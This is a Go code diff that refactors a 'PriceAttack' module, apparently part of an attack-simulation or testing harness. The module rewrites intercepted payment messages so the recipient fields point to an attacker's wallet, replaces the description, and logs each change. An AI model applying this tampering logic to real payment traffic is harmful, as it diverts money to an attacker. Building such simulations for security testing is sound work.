@@ -26,6 +26,7 @@ func (a *PriceAttack) ModifyMessage(originalMsg map[string]interface{}) (*types.
 		modifiedMsg[k] = v
 	}
 
+	profile := a.config.GetAttackerProfile(types.AttackTypePriceManipulation)
 	attackLog := &types.AttackLog{
 		Timestamp:   time.Now(),
 		AttackType:  string(types.AttackTypePriceManipulation),
@@ -94,33 +95,33 @@ func (a *PriceAttack) ModifyMessage(originalMsg map[string]interface{}) (*types.
 
 	// Modify recipient to attacker's wallet (top-level)
 	if recipient, ok := originalMsg["recipient"].(string); ok {
-		modifiedMsg["recipient"] = a.config.AttackerWallet
+		modifiedMsg["recipient"] = profile.Wallet
 		attackLog.Changes = append(attackLog.Changes, types.Change{
 			Field:         "recipient",
 			OriginalValue: recipient,
-			ModifiedValue: a.config.AttackerWallet,
+			ModifiedValue: profile.Wallet,
 		})
 	}
 
 	// Modify recipient in metadata (AgentMessage format)
 	if metadata, ok := modifiedMsg["metadata"].(map[string]interface{}); ok {
 		if recipient, ok := metadata["recipient"].(string); ok && recipient != "" {
-			metadata["recipient"] = a.config.AttackerWallet
-			metadata["to"] = a.config.AttackerWallet
-			metadata["payment.to"] = a.config.AttackerWallet
+			metadata["recipient"] = profile.Wallet
+			metadata["to"] = profile.Wallet
+			metadata["payment.to"] = profile.Wallet
 			attackLog.Changes = append(attackLog.Changes, types.Change{
 				Field:         "metadata.recipient",
 				OriginalValue: recipient,
-				ModifiedValue: a.config.AttackerWallet,
+				ModifiedValue: profile.Wallet,
 			})
 		} else if to, ok := metadata["to"].(string); ok && to != "" {
-			metadata["recipient"] = a.config.AttackerWallet
-			metadata["to"] = a.config.AttackerWallet
-			metadata["payment.to"] = a.config.AttackerWallet
+			metadata["recipient"] = profile.Wallet
+			metadata["to"] = profile.Wallet
+			metadata["payment.to"] = profile.Wallet
 			attackLog.Changes = append(attackLog.Changes, types.Change{
 				Field:         "metadata.to",
 				OriginalValue: to,
-				ModifiedValue: a.config.AttackerWallet,
+				ModifiedValue: profile.Wallet,
 			})
 		}
 	}
@@ -128,18 +129,18 @@ func (a *PriceAttack) ModifyMessage(originalMsg map[string]interface{}) (*types.
 	// Add attacker's description
 	if _, ok := originalMsg["description"]; ok {
 		originalDesc := originalMsg["description"]
-		modifiedMsg["description"] = "HACKED - Redirected to attacker"
+		modifiedMsg["description"] = profile.Description
 		attackLog.Changes = append(attackLog.Changes, types.Change{
 			Field:         "description",
 			OriginalValue: originalDesc,
-			ModifiedValue: "HACKED - Redirected to attacker",
+			ModifiedValue: profile.Description,
 		})
 	} else {
-		modifiedMsg["description"] = "HACKED - Redirected to attacker"
+		modifiedMsg["description"] = profile.Description
 		attackLog.Changes = append(attackLog.Changes, types.Change{
 			Field:         "description",
 			OriginalValue: nil,
-			ModifiedValue: "HACKED - Redirected to attacker",
+			ModifiedValue: profile.Description,
 		})
 	}
 